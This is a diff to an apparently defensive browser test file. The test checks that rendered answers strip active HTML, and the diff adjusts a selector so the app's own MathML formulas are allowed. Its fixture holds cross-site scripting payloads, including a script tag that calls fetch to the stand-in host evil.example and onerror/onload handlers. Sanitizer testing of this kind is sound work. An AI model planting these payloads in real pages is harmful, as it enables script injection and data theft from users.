@@ -3,9 +3,9 @@ import { answers, ask, expect, filesPanel, fileText, inTree, settled, test } fro
 import { block, seeder } from "./seed.ts";
 
 const BEACON = "https://evil.example";
-/** What runs, loads or sends by itself. */
+/** What runs, loads or sends by itself, also in a formula, which is MathML of ours. */
 const ACTIVE =
-  "script, iframe, object, embed, style, link, form, base, meta, img, video, audio, foreignObject, animate, set, use, image, math, [onload], [onerror], [style*='url']";
+  "script, iframe, object, embed, style, link, form, base, meta, img, video, audio, foreignObject, animate, set, use, image, :not([dir=ltr]) > math, math [href], maction, semantics, [onload], [onerror], [style*='url']";
 const ANSWER = `
 <script>alert("script"); fetch("${BEACON}/script")</script>
 <img src=x onerror="alert('onerror')"><svg onload="alert('svg')"></svg>
@@ -121,6 +121,7 @@ for (const [name, text] of Object.entries(CORPUS)) {
     const address = page.url();
     const answer = answers(page);
     await expect(answer).toBeVisible();
+    if (name === "formulas") await expect(answer.locator("math").first()).toBeVisible();
     await expect(answer.locator(ACTIVE)).toHaveCount(0);
     const refs = await answer
       .getByRole("link")
